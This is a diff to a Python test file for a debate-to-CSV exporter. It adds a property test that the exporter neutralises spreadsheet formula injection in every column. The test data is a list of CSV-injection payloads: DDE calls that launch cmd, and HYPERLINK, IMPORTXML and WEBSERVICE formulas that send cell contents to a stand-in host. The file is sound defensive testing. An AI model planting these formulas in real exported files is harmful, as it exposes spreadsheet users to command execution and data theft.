@@ -6,6 +6,7 @@ from dataclasses import replace
 
 import pytest
 from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from argmap.export import to_csv
 from argmap.records import Debate
@@ -79,6 +80,46 @@ def test_csv_neutralises_formulas(start: str) -> None:
     assert row["outlet"] == "a=b"
 
 
+#: Calls of other programs, by dynamic data exchange and by functions that fetch.
+DDE = (
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")',
+    '=HYPERLINK("http://a.example/?"&A1,"Click")',
+    '=IMPORTXML(CONCAT("http://a.example/",A2),"//a")',
+    '=WEBSERVICE("http://a.example")',
+)
+_BEFORE = st.text("\t\r\n \xa0\x00\x0b\u200b\ufeff\u202e", max_size=3)
+
+
+@settings(max_examples=60)
+@given(_BEFORE, st.sampled_from(DDE))
+def test_csv_neutralises_calls_of_other_programs_in_every_column(before: str, call: str) -> None:
+    hostile = before + call
+    debate = sample_debate()
+    text = f"{hostile} "
+    document = replace(debate.documents[0], text=text, title=hostile, outlet=hostile, turns=())
+    speaker = replace(debate.speakers[0], name=hostile)
+    topic = replace(debate.topics[0], title=hostile, motion=hostile)
+    statement = replace(debate.statements[0], start=0, end=len(text), text=text)
+    point = replace(debate.key_points[0], text=hostile, statements=("s1",))
+    (row,) = rows(
+        replace(
+            debate,
+            documents=(document,),
+            speakers=(speaker,),
+            topics=(topic,),
+            statements=(statement,),
+            key_points=(point,),
+        )
+    )
+    for column in ("document", "outlet", "speaker", "topic", "motion", "key_point"):
+        assert row[column] == f"'{hostile}"
+    assert row["text"] == f"'{text}"
+
+
 def test_csv_replaces_lone_surrogates() -> None:
     debate = sample_debate()
     document = replace(debate.documents[0], title="file\udcff.txt")
@@ -94,7 +135,8 @@ def test_csv_of_any_debate_reads_back_without_formulas(debate: Debate) -> None:
     for row in found:
         assert None not in row
         for cell in row.values():
-            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+            assert not cell.startswith(("\t", "\r", "\n"))
+            assert not cell.strip().startswith(("=", "+", "-", "@"))
     texts = [statement.text for statement in debate.statements for _ in debate.topics]
     assert [row["text"] for row in found] == [
         f"'{text}" if row["text"] != text else text for row, text in zip(found, texts, strict=True)
